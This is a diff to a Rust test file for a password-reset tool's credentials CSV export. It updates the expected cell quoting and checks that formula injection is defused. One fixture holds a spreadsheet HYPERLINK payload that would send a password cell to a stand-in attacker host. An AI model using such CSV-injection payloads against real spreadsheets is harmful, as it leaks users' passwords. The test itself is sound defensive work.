@@ -218,8 +218,8 @@ fn reset_hashes_each_password_and_the_sheet_holds_the_only_plaintext() {
     assert_eq!(file.users[0].password_bytes, None); // jDoe was not selected
 
     let text = credentials_csv(&sheet);
-    assert!(text.starts_with("Name,DisplayName,Email,Password\r\n\"asmith\",\"asmith\",\"\",\""));
-    assert!(text.contains("\"Bob, Jr.\",\"Bob, Jr.\",\"bob@example.com\","));
+    assert!(text.starts_with("Name,DisplayName,Email,Password\r\nasmith,asmith,,"));
+    assert!(text.contains("\"Bob, Jr.\",\"Bob, Jr.\",bob@example.com,"));
     // The sheet reads back (quoting and all) with the exact passwords.
     let back = csv::parse_csv(&text).unwrap();
     assert!(back.bad_rows.is_empty());
@@ -317,14 +317,15 @@ fn the_credentials_sheet_defuses_formulas_in_every_cell() {
     let text = credentials_csv(&sheet);
     let mut lines = text.split("\r\n");
     assert_eq!(lines.next(), Some("Name,DisplayName,Email,Password"));
-    assert_eq!(
-        lines.next().unwrap(),
-        format!(
-            "\"victim\",\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\",\"'@evil\",\"{}\"",
-            sheet[0].password
-        )
+    // (The password cell follows, quoted if it holds a `,` or `;`.)
+    let line = lines.next().unwrap();
+    assert!(
+        line.starts_with(
+            "victim,\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\",\"'@evil\","
+        ),
+        "{line}"
     );
-    assert!(text.contains("\"'-minus\",\"'-minus\",\"\","));
+    assert!(text.contains("\"'-minus\",\"'-minus\",,"));
     // The passwords themselves are never changed by the defusing. (The
     // first row's email, "@evil", is a bad row when read back.)
     let back = csv::parse_csv(&text).unwrap();
